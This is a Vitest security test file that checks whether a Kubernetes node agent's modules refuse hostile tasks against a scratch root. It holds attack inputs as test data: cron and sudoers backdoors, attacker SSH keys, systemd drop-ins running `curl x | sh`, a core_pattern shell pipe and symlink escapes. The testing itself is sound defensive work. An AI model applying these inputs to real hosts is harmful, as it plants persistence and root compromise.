/**
 * Issue 16, agent side: the agent is the last line of defence, so every module is fed the tasks a
 * compromised or careless controller could send — against a scratch root directory, never the real
 * `/` — and must refuse them with a coded error, leaving the scratch root exactly as it was.
 */
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { beforeEach, describe, expect, it } from 'vitest';
import { createModuleRegistry } from '../../agent/src/tasks/registry.js';
import { makeTempRoot, rejection, snapshotTree, testContext } from '../../agent/src/tasks/testing.js';
import type { ArtifactSource, Module, ModuleContext } from '../../agent/src/tasks/module.js';
import { artifactModule } from '../../agent/src/tasks/modules/artifact.js';
import { createCommandModule } from '../../agent/src/tasks/modules/command.js';
import { imageModule } from '../../agent/src/tasks/modules/image.js';
import { isBallastError } from '../../shared/src/errors.js';
import type { ModuleName } from '../../shared/src/tasks/modules.js';
import { pathProblem } from '../../shared/src/tasks/safety.js';
import { HOSTILE_KMODS, HOSTILE_PATHS, HOSTILE_SYSCTLS } from './support.js';

// The artifact module is added where an agent has a mirror (agent/src/run.ts); so here.
const registry = createModuleRegistry([
  artifactModule as unknown as Module<ModuleName>,
  imageModule as unknown as Module<ModuleName>,
  createCommandModule({ allow: ['/bin/true'] }) as unknown as Module<ModuleName>,
]);
const REFUSALS = ['BALLAST_ERR_COMMAND_NOT_ALLOWED', 'BALLAST_ERR_UNSAFE_PATH', 'BALLAST_ERR_PATH_OUTSIDE_ROOT', 'BALLAST_ERR_VALIDATION', 'BALLAST_ERR_UNSAFE_VALUE', 'BALLAST_ERR_FILE_UNMANAGED'];
const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

let root: string;
/** A directory outside the scratch root that symlinks point at. */
let outside: string;
beforeEach(async () => {
  root = await makeTempRoot('ballast-security-');
  outside = await mkdtemp(join(tmpdir(), 'ballast-outside-'));
  await mkdir(join(root, 'etc/kubernetes'), { recursive: true });
  await mkdir(join(root, 'root/.ssh'), { recursive: true });
  await writeFile(join(root, 'root/.ssh/authorized_keys'), 'ssh-ed25519 AAAA admin\n');
  await mkdir(join(root, 'proc/sys/kernel'), { recursive: true });
  await writeFile(join(root, 'proc/modules'), '');
});

/** A single-file artifact source serving `bytes`. */
function source(bytes: Buffer): ArtifactSource {
  return { open: async () => ({ stream: Readable.from([bytes]), size: bytes.length }) };
}

const ctxWith = (extra: Partial<ModuleContext> = {}, check = false) => testContext(root, { check, ...extra });

/** The artifact module's own work directory may appear (it is created before a download is judged). */
function withoutWorkDir(tree: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(tree).filter(([k]) => !k.startsWith('/var/lib/ballast') && k !== '/var/lib' && k !== '/var'));
}

/** Runs the task and expects a coded refusal with the scratch root unchanged. */
async function expectRefused(module: ModuleName, args: Record<string, unknown>, ctx = ctxWith()): Promise<string> {
  const before = await snapshotTree(root);
  const err = await rejection(registry.run(module, args, ctx));
  expect(isBallastError(err), `${module} ${JSON.stringify(args).slice(0, 160)} → ${String(err)}`).toBe(true);
  const code = isBallastError(err) ? err.code : '';
  expect(REFUSALS, `${module} ${JSON.stringify(args).slice(0, 160)}`).toContain(code);
  expect(withoutWorkDir(await snapshotTree(root))).toEqual(withoutWorkDir(before));
  return code;
}

describe('issue 16 attacks on the agent, replayed against a scratch root', () => {
  it('1. directory absent on "/./.", "/./etc" and "/etc" is refused before anything is removed (check mode too)', async () => {
    for (const path of ['/./.', '/./etc', '/.', '/etc', '/etc/./kubernetes/..']) {
      await expectRefused('directory', { path, state: 'absent' });
      await expectRefused('directory', { path, state: 'absent' }, ctxWith({}, true));
    }
    expect(await expectRefused('directory', { path: '/./.', state: 'absent' })).toBe('BALLAST_ERR_UNSAFE_PATH');
  });

  it('1. a symlink escape: /etc/kubernetes/pki → a directory outside is refused for file, directory and template', async () => {
    await symlink(outside, join(root, 'etc/kubernetes/pki'));
    await symlink('/root/.ssh', join(root, 'etc/kubernetes/ssh')); // absolute inside the root: also an escape
    for (const dir of ['pki', 'ssh']) {
      expect(await expectRefused('file', { path: `/etc/kubernetes/${dir}/authorized_keys`, content: 'ssh-ed25519 attacker\n', force: true })).toBe('BALLAST_ERR_UNSAFE_PATH');
      await expectRefused('directory', { path: `/etc/kubernetes/${dir}/x` });
      await expectRefused('template', { path: `/etc/kubernetes/${dir}/x.conf`, template: 'x', vars: {} });
    }
    expect(await readFile(join(root, 'root/.ssh/authorized_keys'), 'utf8')).toBe('ssh-ed25519 AAAA admin\n');
  });

  it('2. file/template/systemd cannot write /etc/cron.d, /root/.ssh or units outside /etc/systemd/system', async () => {
    await expectRefused('file', { path: '/etc/cron.d/ballast', content: '* * * * * root sh -c id\n' });
    await expectRefused('file', { path: '/root/.ssh/authorized_keys', content: 'ssh-ed25519 attacker\n', force: true });
    await expectRefused('template', { path: '/etc/sudoers.d/x', template: 'ALL ALL=(ALL) NOPASSWD: ALL', vars: {} });
    await expectRefused('file', { path: '/etc/systemd/system/evil.service', content: '[Service]\nExecStart=/tmp/evil\n' });
    await expectRefused('systemd', { unit: '../../cron.d/x.service', content: '[Service]\n' });
    await expectRefused('systemd', { unit: 'x.service', dropIns: { '../../../../etc/cron.d/x.conf': 'x' } });
    // Nor an executable where it may write: a script in /opt/cni/bin runs as root at the next pod sandbox.
    expect(await expectRefused('file', { path: '/opt/cni/bin/portmap', content: '#!/bin/sh\nid\n', mode: '0755' })).toBe('BALLAST_ERR_UNSAFE_VALUE');
    expect(await expectRefused('template', { path: '/etc/kubernetes/x', template: 'x', vars: {}, mode: '4644' })).toBe('BALLAST_ERR_UNSAFE_VALUE');
  });

  it('2. the artifact module installs only known binaries, and never over a file it did not install', async () => {
    const bytes = Buffer.from('#!/bin/sh\nid > /tmp/pwned\n');
    const args = (to: string) => ({ name: 'evil', version: '1', arch: 'amd64', sha256: sha256(bytes), install: [{ from: 'evil', to }] });
    const ctx = ctxWith({ artifacts: source(bytes) });
    for (const to of ['/root/.ssh/authorized_keys', '/etc/cron.d/x', '/usr/local/bin/ls', '/usr/sbin/evil', '/usr/local/bin/./containerd']) {
      expect(await expectRefused('artifact', args(to), ctx), to).not.toBe('');
    }
    // An unmanaged binary at an allowed place: "not ours, refuse", nothing replaced, check mode says so.
    await mkdir(join(root, 'usr/local/bin'), { recursive: true });
    await writeFile(join(root, 'usr/local/bin/containerd'), 'distro containerd\n');
    expect(await expectRefused('artifact', args('/usr/local/bin/containerd'), ctx)).toBe('BALLAST_ERR_FILE_UNMANAGED');
    const planned = await registry.run('artifact', args('/usr/local/bin/containerd'), ctxWith({ artifacts: source(bytes) }, true));
    expect(planned.diff).toContain('not installed by Ballast');
    expect(await readFile(join(root, 'usr/local/bin/containerd'), 'utf8')).toBe('distro containerd\n');
    // What it installed itself it may replace (the state file records it).
    expect((await registry.run('artifact', args('/usr/local/bin/ctr'), ctx)).changed).toBe(true);
    const v2 = Buffer.from('#!/bin/sh\necho v2\n');
    const out = await registry.run('artifact', { ...args('/usr/local/bin/ctr'), version: '2', sha256: sha256(v2) }, ctxWith({ artifacts: source(v2) }));
    expect(out.changed).toBe(true);
    expect(await readFile(join(root, 'usr/local/bin/ctr'), 'utf8')).toBe(v2.toString());
  });

  /*
   * Weakenings tried (2026-12-07): skipping assertSafeUnit in the systemd module turned the first test
   * red; widening REMOVABLE_PATHS back to all of /etc/sysctl.d and /etc/systemd/system (the old
   * `under(…)` rules) turned the second red.
   */
  it('2. a unit that starts the attacker’s binary as root is refused, in check mode too (BALLAST_ERR_COMMAND_NOT_ALLOWED)', async () => {
    for (const check of [false, true]) {
      const ctx = ctxWith({}, check);
      expect(await expectRefused('systemd', { unit: 'containerd.service', content: '[Service]\nExecStart=/opt/evil/payload\n', enabled: true }, ctx)).toBe(
        'BALLAST_ERR_COMMAND_NOT_ALLOWED',
      );
      // The allowed binary, with the attacker's file bind-mounted over it in the unit's namespace.
      const bind = '[Service]\nExecStart=/usr/local/bin/containerd\nBindReadOnlyPaths=/opt/evil/payload:/usr/local/bin/containerd\n';
      expect(await expectRefused('systemd', { unit: 'containerd.service', content: bind }, ctx)).toBe('BALLAST_ERR_UNSAFE_VALUE');
      // A drop-in replacing the command, and a unit name no role installs.
      const dropIns = { '20-evil.conf': '[Service]\nExecStart=\nExecStart=/bin/sh -c "curl x | sh"\n' };
      expect(await expectRefused('systemd', { unit: 'kubelet.service', dropIns }, ctx)).toBe('BALLAST_ERR_COMMAND_NOT_ALLOWED');
      expect(await expectRefused('systemd', { unit: 'ssh.service', state: 'stopped' }, ctx)).toBe('BALLAST_ERR_UNSAFE_VALUE');
    }
  });

  it('2. removal (reset uses force) reaches exactly the files Ballast installs: not a distribution’s sysctl.d file or another unit', async () => {
    await mkdir(join(root, 'etc/sysctl.d'), { recursive: true });
    await mkdir(join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
    await mkdir(join(root, 'etc/systemd/system/kubelet.service.d'), { recursive: true });
    await writeFile(join(root, 'etc/sysctl.d/10-ptrace.conf'), 'kernel.yama.ptrace_scope = 1\n');
    await writeFile(join(root, 'etc/sysctl.d/99-ballast-kubernetes.conf'), 'net.ipv4.ip_forward = 1\n');
    await writeFile(join(root, 'etc/systemd/system/ssh.service'), '[Service]\n');
    const gone = (path: string) => ({ path, content: '', state: 'absent', force: true });
    expect(await expectRefused('file', gone('/etc/sysctl.d/10-ptrace.conf'))).toBe('BALLAST_ERR_UNSAFE_PATH');
    expect(await expectRefused('file', gone('/etc/systemd/system/ssh.service'))).toBe('BALLAST_ERR_UNSAFE_PATH');
    expect(await expectRefused('directory', { path: '/etc/systemd/system/multi-user.target.wants', state: 'absent' })).toBe('BALLAST_ERR_UNSAFE_PATH');
    expect(await expectRefused('directory', { path: '/etc/sysctl.d', state: 'absent' })).toBe('BALLAST_ERR_UNSAFE_PATH');
    // What reset removes still goes.
    expect((await registry.run('file', gone('/etc/sysctl.d/99-ballast-kubernetes.conf'), ctxWith())).changed).toBe(true);
    expect((await registry.run('directory', { path: '/etc/systemd/system/kubelet.service.d', state: 'absent' }, ctxWith())).changed).toBe(true);
    expect(await readFile(join(root, 'etc/sysctl.d/10-ptrace.conf'), 'utf8')).toBe('kernel.yama.ptrace_scope = 1\n');
  });


  it('2. the image module talks only to a socket under /run/containerd, through an allow-listed ctr; refusals leave the root unchanged', async () => {
    const bytes = Buffer.from('not an image');
    const args = { name: 'image-pause', version: '3.10.2', arch: 'amd64', sha256: sha256(bytes), ref: 'registry.k8s.io/pause:3.10.2', id: `sha256:${'a'.repeat(64)}` };
    const ctx = ctxWith({ artifacts: source(bytes) });
    for (const address of [...HOSTILE_PATHS, '/var/run/docker.sock', '/run/containerd', '/run/containerd/../docker.sock']) {
      expect(await expectRefused('image', { ...args, address }, ctx), address).not.toBe('');
    }
    for (const bad of [{ ctr: '/tmp/ctr' }, { ref: 'pause' }, { ref: 'registry.k8s.io/pause@sha256:abc' }, { id: 'sha256:xyz' }, { name: 'etcd' }]) {
      expect(await expectRefused('image', { ...args, ...bad }, ctx), JSON.stringify(bad)).toBe('BALLAST_ERR_VALIDATION');
    }
  });

  it('3. sysctl kernel.core_pattern = |/bin/sh … and unknown kernel modules are refused (check mode too)', async () => {
    for (const check of [false, true]) {
      expect(await expectRefused('sysctl', { name: 'kernel.core_pattern', value: '|/bin/sh -c id' }, ctxWith({}, check))).toBe('BALLAST_ERR_UNSAFE_VALUE');
      expect(await expectRefused('sysctl', { name: 'kernel/core_pattern', value: '|/bin/sh' }, ctxWith({}, check))).toBe('BALLAST_ERR_UNSAFE_VALUE');
      expect(await expectRefused('kmod', { name: 'evil' }, ctxWith({}, check))).toBe('BALLAST_ERR_UNSAFE_VALUE');
    }
  });
});

/** Every module with a path argument, and how to put a hostile path into it. */
const PATH_TASKS: { module: ModuleName; args: (p: string) => Record<string, unknown>; readOnly?: boolean }[] = [
  { module: 'file', args: (path) => ({ path, content: 'x\n', force: true }) },
  { module: 'file', args: (path) => ({ path, content: '', state: 'absent', force: true }) },
  { module: 'template', args: (path) => ({ path, template: 'x', vars: {}, force: true }) },
  { module: 'directory', args: (path) => ({ path }) },
  { module: 'directory', args: (path) => ({ path, state: 'absent' }) },
  { module: 'artifact', args: (to) => ({ name: 'a', version: '1', arch: 'amd64', sha256: '0'.repeat(64), install: [{ from: 'a', to }] }) },
  { module: 'command', args: (creates) => ({ argv: ['/bin/true'], creates }), readOnly: true },
  { module: 'command', args: (removes) => ({ argv: ['/bin/true'], removes }), readOnly: true },
  { module: 'preflight', args: (p) => ({ minFreeBytes: { [p]: 1 } }), readOnly: true },
  { module: 'preflight', args: (p) => ({ freePorts: [{ port: 1, unlessExists: p }] }), readOnly: true },
  { module: 'etcd_member', args: (caFile) => ({ action: 'add', name: 'n', peerUrls: ['https://10.0.0.1:2380'], caFile }), readOnly: true },
  { module: 'kubeadm', args: (configPath) => ({ action: 'init', config: 'x', configPath }), readOnly: true },
  { module: 'etcd_restore', args: (dataDir) => ({ action: 'set-aside', restoreId: 'op-1', endpoints: ['https://127.0.0.1:1'], dataDir }) },
  { module: 'etcd_restore', args: (caFile) => ({ action: 'assert-no-quorum', restoreId: 'op-1', endpoints: ['https://127.0.0.1:1'], caFile }), readOnly: true },
  { module: 'etcd_data', args: (dataDir) => ({ action: 'prepare', member: 'n', dataDir }) },
  { module: 'etcd_data', args: (dataDir) => ({ action: 'forget', member: 'n', dataDir }) },
];

/** Non-canonical forms: refused by every module, read-only ones included. */
const NON_CANONICAL = HOSTILE_PATHS.filter((p) => pathProblem(p) !== null);

describe('property: every module refuses every hostile path and value on its own', () => {
  it('writing modules refuse all hostile paths; read-only ones refuse the non-canonical forms', async () => {
    await symlink(outside, join(root, 'etc/kubernetes/escape'));
    const hostile = [...HOSTILE_PATHS, '/etc/kubernetes/escape/x', '/etc/kubernetes/escape'];
    let checked = 0;
    for (const t of PATH_TASKS) {
      for (const p of t.readOnly === true ? NON_CANONICAL : hostile) {
        await expectRefused(t.module, t.args(p));
        checked += 1;
      }
    }
    expect(checked).toBeGreaterThan(100);
  });

  it('sysctl and kmod refuse every hostile name and value; systemd every hostile unit and drop-in name', async () => {
    for (const [name, value] of Object.entries(HOSTILE_SYSCTLS)) await expectRefused('sysctl', { name, value });
    await expectRefused('sysctl', { name: 'net.ipv4.ip_forward', value: '1', file: '../../cron.d/x.conf' });
    for (const name of HOSTILE_KMODS) await expectRefused('kmod', { name });
    for (const unit of ['../x.service', '/etc/x.service', '.service', `${'a'.repeat(300)}.service`]) await expectRefused('systemd', { unit, content: 'x' });
    for (const name of ['../x.conf', '.conf/../../x.conf', 'a/b.conf']) await expectRefused('systemd', { unit: 'x.service', dropIns: { [name]: 'x' } });
  });
});
